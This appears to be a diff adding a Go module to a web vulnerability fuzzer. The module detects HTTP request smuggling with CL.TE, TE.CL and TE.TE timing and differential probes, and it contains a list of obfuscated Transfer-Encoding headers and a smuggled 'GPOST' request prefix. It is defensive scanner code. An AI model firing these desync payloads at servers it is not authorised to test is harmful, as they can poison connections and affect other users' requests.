@@ -0,0 +1,214 @@
+package fuzzer
+
+import (
+	"errors"
+	"fmt"
+	"net"
+	"net/http"
+	"strconv"
+	"strings"
+	"time"
+)
+
+// HTTP request smuggling techniques named after the framing used by the front-end and back-end servers
+const (
+	SmugglingCLTE = "CL.TE"
+	SmugglingTECL = "TE.CL"
+	SmugglingTETE = "TE.TE"
+)
+
+// Smuggling probe kinds
+const (
+	SmugglingTiming       = "timing"
+	SmugglingDifferential = "differential"
+)
+
+// SmugglingTimeout is the timeout of a smuggling probe
+var SmugglingTimeout = 10 * time.Second
+
+// SmugglingDelay is the response time above which a timing probe is considered to have desynchronized the servers
+var SmugglingDelay = 5 * time.Second
+
+// TransferEncodingObfuscations are Transfer-Encoding headers that only some servers recognize, used by TE.TE probes
+var TransferEncodingObfuscations = []string{
+	"Transfer-Encoding: xchunked",
+	"Transfer-Encoding : chunked",
+	"Transfer-Encoding: chunked\r\nTransfer-Encoding: x",
+	"Transfer-Encoding:\tchunked",
+	"Transfer-Encoding: x\r\nTransfer-Encoding: chunked",
+	"X: X\nTransfer-Encoding: chunked",
+	"Transfer-Encoding\r\n : chunked",
+}
+
+// smuggledRequest is the request prefix smuggled by TE.CL differential probes
+const smuggledRequest = "GPOST / HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 15\r\n\r\nx=1"
+
+// SmugglingProbe holds the state and results of a SMUGGLING TestCase
+type SmugglingProbe struct {
+	Technique      string
+	Kind           string
+	FollowUp       HTTPRequest // Normal request sent before and after a differential probe
+	Elapsed        time.Duration
+	TimedOut       bool
+	BaselineStatus int // Status of FollowUp sent before the probe
+	FollowUpStatus int // Status of FollowUp sent after the probe
+}
+
+// smugglingSkippedHeaders are replaced by the framing headers of the probes
+var smugglingSkippedHeaders = []string{
+	"content-length",
+	"transfer-encoding",
+	"connection",
+	"host",
+}
+
+// smugglingRequest returns the raw text of a POST request to the target of req with the given framing headers and body
+func (req *HTTPRequest) smugglingRequest(contentLength int, transferEncoding string, body string) string {
+	var text strings.Builder
+	text.WriteString("POST " + req.Request.URL.RequestURI() + " HTTP/1.1\r\n")
+	text.WriteString("Host: " + req.Request.Host + "\r\n")
+	for key, values := range req.Request.Header {
+		if arrayContains(smugglingSkippedHeaders, strings.ToLower(key)) {
+			continue
+		}
+		text.WriteString(key + ": " + strings.Join(values, " ") + "\r\n")
+	}
+	if req.Request.Header.Get("Content-Type") == "" {
+		text.WriteString("Content-Type: application/x-www-form-urlencoded\r\n")
+	}
+	text.WriteString("Content-Length: " + strconv.Itoa(contentLength) + "\r\n")
+	text.WriteString(transferEncoding + "\r\n")
+	text.WriteString("\r\n" + body)
+	return text.String()
+}
+
+// InjectSmuggling returns SMUGGLING TestCases probing the target of req for CL.TE, TE.CL and TE.TE desyncs.
+// Timing probes hang when the servers disagree on the request length, differential probes poison the next request.
+func (req *HTTPRequest) InjectSmuggling() []TestCase {
+	var InjectedTestCases []TestCase
+	if req.Request == nil {
+		return InjectedTestCases
+	}
+	followUp, err := NewHTTPRequestFromBytes([]byte(unmarkedText(req.RequestText)), req.ForceTLS)
+	if err != nil {
+		fmt.Printf("Error Creating HTTPRequest: %s\n", err)
+		return InjectedTestCases
+	}
+	followUp.Raw = true
+
+	// framing is the desync targeted by the probe body, TE.TE probes target either one with an obfuscated header
+	add := func(technique string, framing string, kind string, transferEncoding string, contentLength int, body string) {
+		point := technique + " " + kind
+		if technique != framing {
+			point = technique + " " + framing + " " + kind
+		}
+		probe := HTTPRequest{
+			RequestText: req.smugglingRequest(contentLength, transferEncoding, body),
+			ForceTLS:    req.ForceTLS,
+			Raw:         true,
+		}
+		InjectedTestCases = append(InjectedTestCases, TestCase{
+			BaseRequest:        *req,
+			Request:            probe,
+			Injection:          transferEncoding,
+			InjectionType:      "SMUGGLING",
+			InjectionPoint:     point,
+			InjectionPointType: "smuggling",
+			Status:             "queued",
+			Smuggling:          &SmugglingProbe{Technique: technique, Kind: kind, FollowUp: followUp},
+		})
+	}
+
+	// CL.TE probes come first, a TE.CL timing probe poisons the connection of CL.TE servers
+	chunked := "Transfer-Encoding: chunked"
+	add(SmugglingCLTE, SmugglingCLTE, SmugglingTiming, chunked, 4, "1\r\nA\r\nX")
+	for _, te := range TransferEncodingObfuscations {
+		add(SmugglingTETE, SmugglingCLTE, SmugglingTiming, te, 4, "1\r\nA\r\nX")
+	}
+	add(SmugglingCLTE, SmugglingCLTE, SmugglingDifferential, chunked, 6, "0\r\n\r\nG")
+	chunkSize := fmt.Sprintf("%x\r\n", len(smuggledRequest))
+	add(SmugglingTECL, SmugglingTECL, SmugglingDifferential, chunked, len(chunkSize), chunkSize+smuggledRequest+"\r\n0\r\n\r\n")
+	add(SmugglingTECL, SmugglingTECL, SmugglingTiming, chunked, 6, "0\r\n\r\nX")
+	for _, te := range TransferEncodingObfuscations {
+		add(SmugglingTETE, SmugglingTECL, SmugglingTiming, te, 6, "0\r\n\r\nX")
+	}
+	return InjectedTestCases
+}
+
+// responseStatus returns the status code of res or 0 when the response couldn't be parsed
+func responseStatus(res HTTPResponse) int {
+	if res.Response == nil {
+		return 0
+	}
+	return res.Response.StatusCode
+}
+
+// isTimeout reports whether err is a network timeout
+func isTimeout(err error) bool {
+	var netErr net.Error
+	return errors.As(err, &netErr) && netErr.Timeout()
+}
+
+// SendSmuggling sends a SMUGGLING TestCase with profile through the proxy of httpclient and records the timing or the status of the follow-up requests
+func (TC *TestCase) SendSmuggling(httpclient *http.Client, profile *ClientProfile) {
+	probe := TC.Smuggling
+	if probe == nil {
+		return
+	}
+	proxy, err := rawProxy(httpclient, &TC.Request)
+	if err != nil {
+		fmt.Printf("TestCase.SendSmuggling proxy error: %s\n", err)
+		return
+	}
+	if probe.Kind == SmugglingDifferential {
+		baseline, err := probe.FollowUp.SendRawThrough(profile, proxy, SmugglingTimeout)
+		if err != nil {
+			fmt.Printf("TestCase.SendSmuggling baseline error: %s\n", err)
+		}
+		probe.BaselineStatus = responseStatus(baseline)
+	}
+
+	start := time.Now()
+	res, err := TC.Request.SendRawThrough(profile, proxy, SmugglingTimeout)
+	probe.Elapsed = time.Since(start)
+	TC.Duration = probe.Elapsed.String()
+	if isTimeout(err) {
+		probe.TimedOut = true
+	} else if err != nil {
+		fmt.Printf("TestCase.SendSmuggling error: %s\n", err)
+	}
+	TC.Response = res
+
+	if probe.Kind == SmugglingDifferential {
+		followUp, err := probe.FollowUp.SendRawThrough(profile, proxy, SmugglingTimeout)
+		if err != nil {
+			fmt.Printf("TestCase.SendSmuggling follow-up error: %s\n", err)
+		}
+		probe.FollowUpStatus = responseStatus(followUp)
+	}
+}
+
+// CheckSmuggling reports timing probes that hung and differential probes that changed the response to the next request
+func CheckSmuggling(tc *TestCase) (Finding, string, bool) {
+	probe := tc.Smuggling
+	if probe == nil {
+		return Finding{}, "", false
+	}
+	finding := Finding{
+		VulnerabilityClass: "HTTP_REQUEST_SMUGGLING",
+		Severity:           SeverityHigh,
+		Confidence:         ConfidenceTentative,
+	}
+	switch probe.Kind {
+	case SmugglingTiming:
+		if probe.TimedOut || probe.Elapsed >= SmugglingDelay {
+			return finding, fmt.Sprintf("%s probe with %q took %s", tc.InjectionPoint, tc.Injection, probe.Elapsed.Round(time.Millisecond)), true
+		}
+	case SmugglingDifferential:
+		if probe.BaselineStatus != 0 && probe.FollowUpStatus != 0 && probe.BaselineStatus != probe.FollowUpStatus {
+			finding.Confidence = ConfidenceFirm
+			return finding, fmt.Sprintf("%s probe changed the status of the next request from %d to %d", tc.InjectionPoint, probe.BaselineStatus, probe.FollowUpStatus), true
+		}
+	}
+	return Finding{}, "", false
+}